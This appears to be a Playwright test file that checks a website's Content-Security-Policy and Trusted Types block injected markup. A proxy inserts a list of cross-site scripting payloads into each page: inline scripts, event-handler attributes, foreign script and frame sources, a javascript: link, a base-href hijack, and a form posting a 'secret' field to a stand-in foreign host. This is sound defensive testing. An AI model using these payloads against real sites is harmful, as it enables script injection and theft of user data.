import { createServer, type Server } from "node:http";
import { expect, type Page, test } from "@playwright/test";
import { LANGUAGES } from "#domain/language.ts";
import { listening } from "#tests/support/listening.ts";
import { cellsInTurn, TURN } from "#tests/support/turns.ts";
import { SCREENS } from "./screens.ts";

/**
 * What somebody could do who found a way to write markup into a page: nothing. Every screen is asked for with markup
 * written into the server's answer, under the policy that came with it.
 */

const site = () => process.env.SITE_URL ?? "";

/** A host of somebody else, which notes what it is asked for. */
let elsewhere: Server;
let foreign = "";
const heard: string[] = [];

/** The site as a visitor gets it whose pages have markup of somebody else in them; `/bare/…` comes without its policy. */
let injected: Server;
let victim = "";

test.beforeAll(async () => {
	elsewhere = createServer((request, response) => {
		const path = request.url ?? "";
		heard.push(`${request.method} ${path}`);
		const [type, body] = path.endsWith(".css")
			? ["text/css", "body{outline:7px solid}"]
			: path.endsWith(".js")
				? ["text/javascript", "ran.push('script of elsewhere')"]
				: ["text/html", "<p>elsewhere"];
		response.setHeader("Content-Type", type);
		response.end(body);
	});
	foreign = await listening(elsewhere);
	injected = createServer(async (request, response) => {
		const [, bare, path = "/"] = /^(\/bare)?(\/.*)$/.exec(request.url ?? "/") ?? [];
		// The page stays as it was written, with what was brought into it.
		if (path.endsWith(".js")) return response.writeHead(404).end();
		const answer = await fetch(site() + path, { method: request.method ?? "GET", redirect: "manual" });
		const isPage = answer.headers.get("Content-Type")?.startsWith("text/html") ?? false;
		for (const [name, value] of answer.headers) {
			if (/^(content-(encoding|length)|transfer-encoding|connection|keep-alive)$/.test(name)) continue;
			if (!bare || name !== "content-security-policy") response.setHeader(name, value);
		}
		response.statusCode = answer.status;
		const body = Buffer.from(await answer.arrayBuffer());
		response.end(isPage ? body.toString().replace(/<body[^>]*>/, (tag) => tag + markup()) : body);
	});
	victim = await listening(injected);
});
test.afterAll(() => {
	for (const server of [elsewhere, injected]) {
		server.close();
		server.closeAllConnections();
	}
});

/** Each thing notes in `ran` that it ran, asks the foreign host, or is seen in the page's looks and address. */
const markup = () => `<script>self.ran=self.ran||[];ran.push("inline script")</script>
<img src="/none" onerror="ran.push('error handler')"><svg onload="ran.push('load handler')"></svg>
<input autofocus onfocus="ran.push('focus handler')">
<script src="${foreign}/a.js"></script><script nonce="" src="${foreign}/b.js"></script><script type="module" src="${foreign}/c.js"></script>
<script src="data:text/javascript,ran.push('script in an address')"></script>
<style>html{scroll-padding-top:77px}</style><link rel="stylesheet" href="${foreign}/a.css">
<img src="${foreign}/a.png"><video src="${foreign}/a.mp4"></video><iframe src="${foreign}/frame"></iframe>
<iframe srcdoc="<script>parent.ran.push('script of a frame')</script>"></iframe>
<object data="${foreign}/object"></object><embed src="${foreign}/embed">
<base href="${foreign}/base/">
<a id="evil-link" href="javascript:ran.push('script of a link')">x</a>
<form id="evil-form" method="post" action="${foreign}/form"><input name="secret" value="1"><button id="evil-send">x</button></form>`;

/** Opens a page with the markup in it, and presses what it brought; answers all that came of it. */
async function effectsOn(page: Page, path: string): Promise<readonly string[]> {
	heard.length = 0;
	await page.addInitScript("self.ran=[]");
	await page.goto(victim + path);
	await page.locator("#evil-link").evaluate((link: HTMLElement) => link.click());
	const seen = await page.evaluate(async () => {
		await new Promise((resolve) => setTimeout(resolve, 50));
		const { outlineWidth } = getComputedStyle(document.body);
		const { scrollPaddingTop } = getComputedStyle(document.documentElement);
		return {
			ran: (self as unknown as { ran: string[] }).ran,
			looks: [scrollPaddingTop === "77px" && "style", outlineWidth === "7px" && "style of elsewhere"],
			base: new URL(document.baseURI).host !== location.host && "base",
		};
	});
	await page.locator("#evil-send").evaluate((button: HTMLElement) => button.click());
	await page.waitForTimeout(100);
	return [...seen.ran, ...seen.looks, seen.base, ...heard].filter((one) => typeof one === "string");
}

test("markup in a page would do all of it without the page's policy", async ({ page }) => {
	const effects = await effectsOn(page, "/bare/nl/over-ons");
	for (const one of [
		"inline script",
		"error handler",
		"load handler",
		"script of elsewhere",
		"script in an address",
		"script of a frame",
		"script of a link",
		"style",
		"style of elsewhere",
		"base",
		"GET /a.png",
		"GET /frame",
		"POST /form",
	])
		expect(effects).toContain(one);
});

test("markup in any screen does nothing", async ({ browser }) => {
	const language = LANGUAGES[TURN % LANGUAGES.length] ?? "en";
	for (const { name, path } of cellsInTurn("injected", SCREENS)) {
		await test.step(name, async () => {
			const page = await browser.newPage();
			expect([name, await effectsOn(page, path(language))]).toEqual([name, []]);
			await page.close();
		});
	}
});

test("script of a page makes no markup that runs, no script of elsewhere, and no policy of its own", async ({
	page,
}) => {
	await page.goto(`${site()}/en/about-us`);
	await page.locator("html[data-started]").waitFor({ state: "attached" });
	const outcomes = await page.evaluate((foreign) => {
		const self = globalThis as unknown as {
			trustedTypes: { createPolicy(name: string, rules: object): unknown };
		};
		const div = document.createElement("div");
		const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
		const script = document.createElement("script");
		const frame = document.createElement("iframe");
		const tries: Record<string, () => unknown> = {
			plain: () => {
				div.innerHTML = "<b>bold</b>";
			},
			shapes: () => {
				svg.innerHTML = '<path d="m1 2 3-4"/><circle cx="1" cy="2" r="3"/>';
			},
			shape: () => {
				svg.innerHTML = '<path d="m1 2 3-4" onload="alert(1)"/>';
			},
			handler: () => {
				div.innerHTML = "<img src=x onerror=alert(1)>";
			},
			script: () => {
				div.innerHTML = "<p><script>alert(1)</script>";
			},
			link: () => {
				div.innerHTML = '<a href=" java\tscript:alert(1)">x</a>';
			},
			frame: () => {
				div.insertAdjacentHTML("beforeend", "<iframe></iframe>");
			},
			hidden: () => {
				div.innerHTML = "<template><img onerror=alert(1)></template>";
			},
			document: () => {
				frame.srcdoc = "<script>alert(1)</script>";
			},
			source: () => {
				script.src = `${foreign}/a.js`;
			},
			own: () => {
				script.src = "/assets/none.js";
			},
			data: () => {
				script.src = "data:text/javascript,alert(1)";
			},
			text: () => {
				script.text = "alert(1)";
			},
			worker: () => new Worker(`${foreign}/a.js`),
			timer: () => setTimeout("alert(1)" as unknown as () => void, 1),
			policy: () => self.trustedTypes.createPolicy("evil", {}),
			again: () => self.trustedTypes.createPolicy("default", {}),
			look: () => self.trustedTypes.createPolicy("halcyon-look", {}),
		};
		return Object.entries(tries).map(([name, attempt]) => {
			try {
				attempt();
				return `${name} passed`;
			} catch {
				return `${name} refused`;
			}
		});
	}, foreign);
	expect(outcomes).toEqual([
		"plain passed",
		"shapes passed",
		"shape refused",
		"handler refused",
		"script refused",
		"link refused",
		"frame refused",
		"hidden refused",
		"document refused",
		"source refused",
		"own passed",
		"data refused",
		"text refused",
		"worker refused",
		"timer refused",
		"policy refused",
		"again refused",
		"look refused",
	]);
});
